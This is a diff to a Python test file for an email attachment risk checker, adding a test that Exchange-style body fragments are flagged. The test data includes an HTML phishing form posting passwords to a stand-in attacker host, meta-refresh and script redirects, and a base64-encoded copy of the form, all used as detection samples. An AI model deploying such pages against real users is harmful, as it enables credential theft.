@@ -207,6 +207,21 @@ def test_an_exchange_body_fragment_where_exchange_puts_one_is_a_notice_elsewhere
     # Another page name in Exchange's place: a warning.
     login = fragment.replace("ATT00001.htm", "Login.htm")
     assert _ids(_mixed(_TEXT, image, login)) == {"attachment.risky_type": "warning"}
+    # A login page in Exchange's place under Exchange's name (verification V18 P2): what it does
+    # decides, a warning; base64 does not hide it.
+    import base64
+
+    page = ('<html><body><form action="https://login.attacker.example/p.php"><input type="password" name="p">'
+            '</form></body></html>')
+    for body in (page, '<meta http-equiv="refresh" content="0;url=https://x.example">',
+                 "<script>window.location='https://x.example'</script>"):
+        credential = fragment.replace("<html><body>Regards</body></html>", body)
+        report = _mixed(_TEXT, image, credential)
+        assert _ids(report) == {"attachment.risky_type": "warning"}, body
+        assert "which no body fragment needs" in (report.attachments[-1].risk or "")
+    encoded = fragment.replace("\r\n\r\n<html><body>Regards</body></html>",
+                               "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(page.encode()).decode())
+    assert _ids(_mixed(_TEXT, image, encoded)) == {"attachment.risky_type": "warning"}
     # A placed fragment beside a program: both told, the program at its own level.
     both = _mixed(_TEXT, image, fragment, 'Content-Type: application/octet-stream; name="setup.exe"\r\n\r\nMZ')
     assert _ids(both) == {"attachment.body_fragment": "notice", "attachment.risky_type": "warning"}
